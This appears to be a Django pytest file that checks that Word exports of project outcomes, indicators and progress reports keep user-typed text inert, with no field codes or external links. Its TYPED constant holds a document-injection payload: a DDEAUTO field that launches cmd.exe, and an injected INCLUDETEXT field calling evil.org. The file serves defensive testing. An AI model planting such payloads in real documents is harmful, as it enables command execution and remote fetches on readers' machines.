"""What somebody typed is text in every Word file: no field, no link, no foreign part, whatever it looks like."""

import io
import re
import zipfile

import pytest
from django.test import Client
from django.urls import reverse

from jmi.models import Activity, Indicator, IndicatorProgress, Outcome, ProgressReport
from tests.access.table import World
from tests.factories.jmi import complete_set
from tests.factories.jmi_progress import fill_report, full_report

TYPED = '{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" }</w:t><w:instrText>INCLUDETEXT http://evil.org</w:instrText><w:t>'
OURS = {"PAGE", "NUMPAGES"}


def parts(client: Client, url: str) -> dict[str, str]:
    """The XML of a Word file by name."""
    response = client.get(url)
    assert response.status_code == 200, url
    body = b"".join(response.streaming_content) if response.streaming else response.content
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        names = [name for name in archive.namelist() if name.endswith((".xml", ".rels"))]
        return {name: archive.read(name).decode() for name in names}


@pytest.mark.django_db
def test_typed_text_makes_no_field_in_word():
    world = World()
    jmi_set = complete_set()
    report = fill_report(full_report())
    Outcome.objects.update(title_en=TYPED[:300])
    Indicator.objects.update(title_en=TYPED[:300])
    Activity.objects.update(text_en=TYPED)
    IndicatorProgress.objects.update(progress_en=TYPED, constraint_en=TYPED)
    ProgressReport.objects.update(government_statement_en=TYPED)
    client = Client()
    client.force_login(world.user("crdb"))
    for url in (
        reverse("jmi:set-export", kwargs={"pk": jmi_set.pk, "lang": "en", "kind": "docx"}),
        reverse("jmi:report-docx", kwargs={"pk": report.pk}),
    ):
        found = parts(client, url)
        everything = "".join(found.values())
        codes = re.findall(r"<w:instrText[^>]*>([^<]*)<", everything) + re.findall(r'w:instr="([^"]*)"', everything)
        assert {code.split()[0] for code in codes if code.strip()} <= OURS, url
        assert 'TargetMode="External"' not in everything, url
        assert "DDEAUTO" in found["word/document.xml"], "the text itself is there, as text"
